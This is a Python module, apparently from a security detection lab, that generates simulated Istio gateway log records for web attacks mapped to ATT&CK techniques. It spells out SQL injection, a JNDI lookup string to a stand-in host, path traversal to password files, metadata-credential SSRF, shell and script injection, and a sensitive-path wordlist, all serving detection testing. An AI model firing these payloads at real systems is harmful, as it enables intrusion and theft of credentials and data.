"""Istio: what comes at the gateway from outside."""

from __future__ import annotations

from typing import Final

from daemon.lab.sources.istio_access import gateway
from daemon.lab.stage import Stage, Technique

_JWT: Final = "jwt_authn_access_denied{Jwt_verification_fails}"
_WORDS: Final = (
    "/.git/config /.env /wp-login.php /admin /backup.zip /phpmyadmin/ /.aws/credentials /server-status "
    "/config.json /api/swagger.json /actuator/env /console /db.sql /id_rsa /.svn/entries /old /test "
    "/cgi-bin/ /shell.php /jenkins"
)


def sql_injection(stage: Stage) -> None:
    """Send SQL in a parameter."""
    target = stage.workload()
    for text in (
        "1%27%20UNION%20SELECT%20usename,passwd%20FROM%20pg_shadow--",
        "1%27%20OR%20%271%27%3D%271",
        "1;%20DROP%20TABLE%20orders--",
        "1%27%20AND%20SLEEP(5)--",
    ):
        gateway(stage, stage.foreign, target, "GET", f"/api/v1/{stage.names.word()}?id={text}", 500)


def lookup_injection(stage: Stage) -> None:
    """Send a lookup string in the path and in the user agent."""
    target, host = stage.workload(), f"{stage.names.word()}.example"
    text = f"${{jndi:ldap://{host}/{stage.names.word()}}}"
    gateway(stage, stage.foreign, target, "GET", "/", agent=text)
    encoded = text.replace("{", "%7B").replace("}", "%7D").replace("$", "%24")
    gateway(stage, stage.foreign, target, "GET", f"/search?q={encoded}")


def path_traversal(stage: Stage) -> None:
    """Climb out of the folder with encoded dots."""
    target = stage.workload()
    for path in (
        "/static/../../../../etc/passwd",
        "/static/..%2f..%2f..%2fetc%2fshadow",
        "/files/%2e%2e/%2e%2e/proc/self/environ",
    ):
        gateway(stage, stage.foreign, target, "GET", path, 400)


def inside_as_parameter(stage: Stage) -> None:
    """Hand the metadata address in as a parameter."""
    target = stage.workload()
    for host in (
        "169.254.169.254/latest/meta-data/iam/security-credentials/",
        "localhost:8200/v1/sys/health",
    ):
        gateway(stage, stage.foreign, target, "GET", f"/api/v1/preview?url=http://{host}")


def shell_injection(stage: Stage) -> None:
    """Send a shell command and a script in parameters."""
    target = stage.workload()
    gateway(stage, stage.foreign, target, "GET", "/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd")
    gateway(stage, stage.foreign, target, "GET", "/search?q=%3Cscript%3Efetch(document.cookie)%3C/script%3E")


def word_list(stage: Stage) -> None:
    """Try paths from a word list with a tool that says its name."""
    target = stage.workload()
    for path in (*_WORDS.split(), *(f"/{stage.names.word()}" for _ in range(40))):
        gateway(stage, stage.foreign, target, "GET", path, 404, agent="feroxbuster/2.11.0")


def forged_tokens(stage: Stage) -> None:
    """Try forged tokens."""
    target = stage.workload()
    for _ in range(stage.rng.randint(40, 60)):
        gateway(stage, stage.foreign, target, "GET", f"/api/v1/{stage.names.word()}", 401, details=_JWT)


def passwords_stuffed(stage: Stage) -> None:
    """Try found passwords until one fits."""
    target = stage.workload()
    for _ in range(stage.rng.randint(40, 60)):
        gateway(stage, stage.foreign, target, "POST", "/api/v1/login", 401)
    gateway(stage, stage.foreign, target, "POST", "/api/v1/login", 200)
    gateway(stage, stage.foreign, target, "GET", "/api/v1/account", 200)


def objects_counted_up(stage: Stage) -> None:
    """Read object after object by number."""
    target, first = stage.workload(), stage.rng.randint(1000, 900_000)
    for number in range(first, first + 130):
        gateway(
            stage, stage.foreign, target, "GET", f"/api/v1/accounts/{number}", agent="python-requests/2.32.3"
        )


TECHNIQUES: Final = (
    Technique("mesh-sql-injection", "SQL in parameters", sql_injection, ("T1190",)),
    Technique("mesh-lookup-injection", "Lookup strings", lookup_injection, ("T1190",)),
    Technique("mesh-path-traversal", "Paths that climb out", path_traversal, ("T1190",)),
    Technique("mesh-inside-as-parameter", "Inside addresses as parameters", inside_as_parameter, ("T1190",)),
    Technique("mesh-shell-injection", "Commands and scripts in parameters", shell_injection, ("T1190",)),
    Technique("mesh-word-list", "Word list of paths at the gateway", word_list, ("T1595.003",), "medium"),
    Technique("mesh-forged-tokens", "Forged tokens", forged_tokens, ("T1550.001",), "medium"),
    Technique("mesh-passwords-stuffed", "Passwords tried until one fits", passwords_stuffed, ("T1110.004",)),
    Technique("mesh-objects-counted-up", "Objects read by number", objects_counted_up, ("T1119",), "medium"),
)
